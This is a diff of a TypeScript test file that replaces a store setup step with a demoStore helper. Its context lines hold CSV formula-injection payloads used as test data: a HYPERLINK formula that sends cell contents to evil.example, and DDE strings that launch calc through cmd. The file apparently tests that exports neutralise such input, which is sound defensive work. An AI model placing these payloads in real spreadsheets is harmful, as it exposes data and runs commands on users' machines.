@@ -5,7 +5,7 @@ import path from 'node:path';
 import { after, before, test } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import { PLAN_FORMAT, type PlanDocumentInput } from '../../src/domain/plan-document.ts';
-import { disposeStores, freshStore, ok, tempDir, type Store } from './run.ts';
+import { demoStore, disposeStores, ok, tempDir, type Store } from './run.ts';
 
 const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
 const FORMULA_OWNER = '@SUM(1+1)*cmd|\' /C calc\'!A0';
@@ -14,8 +14,7 @@ const FORMULA_ACTOR = '+cmd|\' /C calc\'!A0';
 let store: Store;
 
 before(async () => {
-  store = await freshStore();
-  await ok(store, ['demo']);
+  store = await demoStore();
   const doc: PlanDocumentInput = {
     format: PLAN_FORMAT,
     formatVersion: 1,
